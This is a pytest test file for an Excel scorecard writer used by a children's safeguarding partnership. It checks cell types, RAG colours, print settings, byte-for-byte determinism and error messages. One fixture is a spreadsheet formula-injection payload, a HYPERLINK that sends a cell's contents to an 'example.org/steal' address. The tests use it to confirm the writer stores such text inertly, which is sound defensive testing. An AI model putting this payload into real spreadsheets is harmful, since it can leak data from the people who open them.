"""The board workbook: read back with openpyxl (an independent reader), cell by cell and setting by setting."""

from __future__ import annotations

import datetime as dt
import hashlib
import os
import subprocess
import sys
import zipfile
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest

from cscp_analysis import workbook
from cscp_analysis.workbook import Column, Sheet, WorkbookError

ROOT = Path(__file__).resolve().parents[1]
CREATED = dt.date(2026, 10, 15)
MARK = "OFFICIAL-SENSITIVE"
INJECTION = '=HYPERLINK("http://example.org/steal?x="&A1,"Click for details")'

# The same sheets, built in this process and in a separate one (the determinism test): source text, run twice.
BUILD = '''
import datetime as dt
import numpy as np
import pandas as pd
from cscp_analysis import workbook
from cscp_analysis.workbook import Column, Sheet

def build(path, created=dt.date(2026, 10, 15), marking="OFFICIAL-SENSITIVE"):
    summary = pd.DataFrame({
        "title": ["Re-referrals within 12 months", "Assessments within 45 working days",
                  "Initial conferences within 15 working days", "Missing episodes"],
        "value": [21.3, "c", np.nan, 14],
        "as_text": ["21.30", "c", "x", "-3"],
        "rag": ["red", "Amber", "GREEN", "grey"],
        "rag_reason": ["Red: the target of 20.0 is missed by 1.3 (beyond the tolerance); " * 3,
                       "Amber: significantly worse than England at 95%.", "", None],
        "commentary": [INJECTION, "+44 24 7683 1234", "@SUM(A1:A2)", "-1 child"],
    })
    columns = [Column("Indicator", key="title", width=40, wrap=True),
               Column("This quarter", key="value", number_format="0.0"),
               Column("Published as text", key="as_text", parse_numbers=True),
               Column("RAG", key="rag"),
               Column("Why", key="rag_reason", width=60, wrap=True),
               Column("Agency's commentary", key="commentary", width=50, wrap=True)]
    detail = pd.DataFrame({"Indicator": ["Re-referrals"], "Numerator": [213], "Denominator": [1000],
                           "Date": [dt.date(2026, 9, 30)], "Stock measure": [True]})
    return workbook.write(path, [
        Sheet("Summary", "Multi-agency performance scorecard, July to September 2026", summary, columns,
              rag_column="RAG", notes=["Ratings are given in words as well as colours."]),
        Sheet("Detail", "Numerators & denominators", detail, landscape=False),
    ], created=created, marking=marking,
        properties={"title": "Performance scorecard", "author": "Coventry Safeguarding Children Partnership"})
'''.replace("INJECTION", repr(INJECTION))
_namespace: dict = {}
exec(BUILD, _namespace)  # noqa: S102 - our own source text above
build = _namespace["build"]


@pytest.fixture(scope="module")
def book(tmp_path_factory) -> Path:
    return build(tmp_path_factory.mktemp("workbook") / "scorecard.xlsx")


@pytest.fixture(scope="module")
def summary(book):
    return openpyxl.load_workbook(book)["Summary"]


def _sheet_xml(path: Path, n: int) -> str:
    with zipfile.ZipFile(path) as z:
        return z.read(f"xl/worksheets/sheet{n}.xml").decode("utf-8")


# --- layout: marking, title, header, data, notes ----------------------------------------------------

def test_layout_marking_title_header_rows(book):
    wb = openpyxl.load_workbook(book)
    assert wb.sheetnames == ["Summary", "Detail"]
    for ws in wb.worksheets:
        assert ws["A1"].value == MARK and ws["A1"].font.b
    ws = wb["Summary"]
    assert ws["A2"].value == "Multi-agency performance scorecard, July to September 2026"
    assert [c.value for c in ws[3]] == ["Indicator", "This quarter", "Published as text", "RAG", "Why",
                                        "Agency's commentary"]
    assert ws["A4"].value == "Re-referrals within 12 months" and ws["A7"].value == "Missing episodes"
    assert all(c.value is None for c in ws[8])  # a blank row between the table and its notes
    # the writer's own first note explains the symbols the sheet shows (c and x, as GSS writes them), and only those
    assert ws["A9"].value == ("Symbols: [c] a count from 1 to 5, or a figure worked out from one, hidden to protect "
                              "confidentiality; [x] not available.")
    assert ws["A10"].value.startswith("Ratings")


def test_without_marking_the_title_is_first(tmp_path):
    ws = openpyxl.load_workbook(build(tmp_path / "plain.xlsx", marking=None))["Summary"]
    assert ws["A1"].value.startswith("Multi-agency") and ws["A2"].value == "Indicator"
    assert ws.freeze_panes == "A3"
    assert ws.oddHeader.center.text is None and "OFFICIAL" not in (ws.oddFooter.center.text or "")


# --- what each cell holds ------------------------------------------------------------------------

def test_text_is_text_never_a_formula(book, summary):
    # Commentary typed by a partner that looks like a formula stays the characters typed (formula injection).
    cells = {r: summary.cell(row=r, column=6) for r in range(4, 8)}
    assert [c.value for c in cells.values()] == [INJECTION, "+44 24 7683 1234", "@SUM(A1:A2)", "-1 child"]
    assert all(c.data_type == "s" for c in cells.values())
    # ... and the sheet's XML holds no formula at all (openpyxl reads a formula cell as data_type "f").
    assert "<f>" not in _sheet_xml(book, 1) and "<f " not in _sheet_xml(book, 1)
    # A text column asked to parse numbers leaves formula-like text alone too.
    assert summary["C4"].data_type == "n"


def test_numbers_blanks_and_symbols(summary):
    assert summary["B4"].value == 21.3 and summary["B4"].data_type == "n" and summary["B4"].number_format == "0.0"
    assert summary["B5"].value == "[c]" and summary["B5"].data_type == "s"  # the package's c, as GSS writes it
    assert summary["B6"].value is None  # NaN is a blank cell, not "nan"
    assert summary["B7"].value == 14 and summary["B7"].data_type == "n"
    assert summary["E7"].value is None and summary["E6"].value is None  # None and "" are blank


def test_numbers_published_as_text_become_numbers_when_asked(summary):
    # "21.30" is 21.3 shown with two decimal places, as published; symbols stay text.
    assert summary["C4"].value == 21.3 and summary["C4"].number_format == "0.00"
    assert summary["C7"].value == -3 and summary["C7"].number_format == "0"
    assert (summary["C5"].value, summary["C5"].data_type) == ("[c]", "s")
    assert (summary["C6"].value, summary["C6"].data_type) == ("[x]", "s")


def test_dates_and_yes_no(book):
    ws = openpyxl.load_workbook(book)["Detail"]
    assert ws["D4"].value == dt.datetime(2026, 9, 30) and ws["D4"].is_date and ws["D4"].number_format == "d mmm yyyy"
    assert ws["E4"].value == "Yes" and ws["E4"].data_type == "s"
    assert ws["B4"].value == 213 and ws["B4"].data_type == "n"


def test_alignment_text_left_wrapped_numbers_right(summary):
    assert summary["A4"].alignment.horizontal == "left" and summary["A4"].alignment.wrap_text
    assert summary["E4"].alignment.wrap_text
    # a column of numbers and disclosure symbols is right-aligned, symbols too, so they line up
    assert summary["B4"].alignment.horizontal == "right" and summary["B5"].alignment.horizontal == "right"
    assert summary["C5"].alignment.horizontal == "right"
    assert summary.column_dimensions["A"].width == pytest.approx(40, abs=1)
    assert summary.column_dimensions["E"].width == pytest.approx(60, abs=1)


# --- RAG -----------------------------------------------------------------------------------------

@pytest.mark.parametrize("cell, word, fill, font", [
    ("D4", "Red", "FFC8102E", "FFFFFFFF"),
    ("D5", "Amber", "FFF0A30A", "FF000000"),
    ("D6", "Green", "FF00703C", "FFFFFFFF"),
    ("D7", "Grey", "FFBFBFBF", "FF000000"),
])
def test_rag_is_a_word_on_its_colour(summary, cell, word, fill, font):
    c = summary[cell]
    assert c.value == word and c.data_type == "s"
    assert c.fill.patternType == "solid" and c.fill.fgColor.rgb == fill
    assert c.font.color.rgb == font


def test_unknown_rag_word_names_row_and_column(tmp_path):
    t = pd.DataFrame({"Indicator": ["a", "b"], "RAG": ["red", "purple"]})
    with pytest.raises(WorkbookError, match=r"sheet 'S': row 2 of the table: column 'RAG': .*'purple'"):
        workbook.write(tmp_path / "x.xlsx", [Sheet("S", "T", t, rag_column="RAG")], created=CREATED)


# --- sheet settings and printing -------------------------------------------------------------------

def test_frozen_header_and_autofilter(summary):
    assert summary.freeze_panes == "A4"  # rows 1 to 3 (marking, title, header) stay in view
    assert summary.auto_filter.ref == "A3:F7"


def test_print_setup_a4_landscape_one_page_wide(summary):
    ps = summary.page_setup
    assert int(ps.paperSize) == 9  # A4
    assert ps.orientation == "landscape"
    assert summary.sheet_properties.pageSetUpPr.fitToPage is True
    # fitToWidth is 1 when absent (ECMA-376 part 1, 18.3.1.63 pageSetup: default 1); 0 tall = as many pages as needed
    assert ps.fitToWidth in (None, 1) and int(ps.fitToHeight) == 0
    assert summary.print_area == "'Summary'!$A$1:$F$10"
    assert summary.print_title_rows == "$3:$3"


def test_print_setup_portrait_when_asked(book):
    ws = openpyxl.load_workbook(book)["Detail"]
    assert ws.page_setup.orientation == "portrait" and int(ws.page_setup.paperSize) == 9
    assert ws.print_area == "'Detail'!$A$1:$E$4"


def test_page_header_and_footer_carry_marking_title_and_page_numbers(book):
    wb = openpyxl.load_workbook(book)
    ws = wb["Summary"]
    assert ws.oddHeader.center.text == MARK
    assert ws.oddFooter.left.text == "Multi-agency performance scorecard, July to September 2026"
    assert ws.oddFooter.center.text == MARK
    assert ws.oddFooter.right.text == "Page &P of &N"
    # an ampersand in a title is doubled, or Excel would read it as a control code
    assert wb["Detail"].oddFooter.left.text == "Numerators && denominators"


def test_notes_span_the_table_width(summary):
    assert "A9:F9" in {str(r) for r in summary.merged_cells.ranges}
    assert summary["A9"].alignment.wrap_text


def test_document_properties(book):
    props = openpyxl.load_workbook(book).properties
    assert props.title == "Performance scorecard"
    assert props.creator == "Coventry Safeguarding Children Partnership"
    assert props.created == dt.datetime(2026, 10, 15) and props.modified == dt.datetime(2026, 10, 15)


# --- same bytes, every run and every day --------------------------------------------------------------

def test_zip_parts_have_a_fixed_date_and_the_creation_date_is_the_parameter(book):
    with zipfile.ZipFile(book) as z:
        assert {i.date_time for i in z.infolist()} == {(1980, 1, 1, 0, 0, 0)}
        core = z.read("docProps/core.xml").decode()
    assert "<dcterms:created xsi:type=\"dcterms:W3CDTF\">2026-10-15T00:00:00Z</dcterms:created>" in core


def test_an_aware_creation_time_is_written_in_utc(tmp_path):
    created = dt.datetime(2026, 10, 15, 9, 30, tzinfo=dt.timezone(dt.timedelta(hours=1)))
    path = build(tmp_path / "aware.xlsx", created=created)
    with zipfile.ZipFile(path) as z:
        assert "2026-10-15T08:30:00Z" in z.read("docProps/core.xml").decode()


def test_same_inputs_same_bytes_in_another_process_time_zone_and_day(book, tmp_path, faketime):
    other = tmp_path / "again.xlsx"
    script = BUILD + f"\nbuild({str(other)!r})\n"
    env = {**os.environ, "TZ": "Pacific/Auckland", "PYTHONHASHSEED": "4321"}
    command = [sys.executable, "-c", script]
    if faketime:  # the clock moved years ahead: anything that read it would change the bytes
        command = [faketime, "2031-02-03 04:05:06"] + command
    r = subprocess.run(command, cwd=tmp_path, env=env, capture_output=True, text=True, timeout=120)
    assert r.returncode == 0, r.stderr
    assert hashlib.sha256(other.read_bytes()).hexdigest() == hashlib.sha256(book.read_bytes()).hexdigest()


def test_a_different_creation_date_changes_only_the_properties(book, tmp_path):
    other = build(tmp_path / "later.xlsx", created=dt.date(2027, 1, 15))
    with zipfile.ZipFile(book) as a, zipfile.ZipFile(other) as b:
        differ = [n for n in a.namelist() if a.read(n) != b.read(n)]
    assert differ == ["docProps/core.xml"]


# --- bad descriptions get clear errors ---------------------------------------------------------------

@pytest.mark.parametrize("sheets, message", [
    ([], "at least one sheet"),
    ([Sheet("A" * 32, "T", pd.DataFrame({"a": [1]}))], "longer than Excel's 31"),
    ([Sheet("Q1/Q2", "T", pd.DataFrame({"a": [1]}))], "character Excel does not allow"),
    ([Sheet("Data", "T", pd.DataFrame({"a": [1]})), Sheet("data", "T", pd.DataFrame({"a": [1]}))], "used twice"),
    ([Sheet("S", "T", pd.DataFrame({"a": [1]}), [Column("Value", key="value")])],
     r"sheet 'S': the table has no column 'value' \(it has 'a'\)"),
    ([Sheet("S", "", pd.DataFrame({"a": [1]}))], "sheet 'S' needs a title"),
    ([Sheet("S", "T", pd.DataFrame({"a": [1]}), rag_column="RAG")], "RAG column 'RAG' is not one of its columns"),
    ([Sheet("S", "T", pd.DataFrame({"a": [1.0, np.inf]}))], r"sheet 'S': row 2 of the table: column 'a': inf .*infinite"),
    ([Sheet("S", "T", pd.DataFrame({"a": ["x" * 40_000]}))], r"sheet 'S': row 1 of the table: column 'a': .*32,767"),
])
def test_bad_sheets_are_refused_with_a_clear_message(tmp_path, sheets, message):
    with pytest.raises(WorkbookError, match=message):
        workbook.write(tmp_path / "x.xlsx", sheets, created=CREATED)


def test_created_must_be_a_date_and_properties_known(tmp_path):
    sheets = [Sheet("S", "T", pd.DataFrame({"a": [1]}))]
    with pytest.raises(WorkbookError, match="created must be a date"):
        workbook.write(tmp_path / "x.xlsx", sheets, created="today")
    with pytest.raises(WorkbookError, match="unknown document property colour"):
        workbook.write(tmp_path / "x.xlsx", sheets, created=CREATED, properties={"colour": "red"})
